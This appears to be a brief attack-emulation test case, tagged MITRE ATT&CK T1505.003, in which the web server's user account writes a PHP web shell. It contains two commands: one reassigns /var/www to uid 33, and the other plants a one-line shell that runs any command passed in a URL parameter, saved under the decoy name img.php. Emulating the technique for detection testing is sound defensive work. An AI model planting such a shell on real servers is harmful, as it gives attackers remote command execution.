# title: A web server's user writes a web shell
# technique: T1505.003
# short: yes

chown -R 33:33 /var/www
setpriv --reuid 33 --regid 33 --clear-groups sh -c "echo '<?php system(\$_GET[0]);' >/var/www/html/img.php"
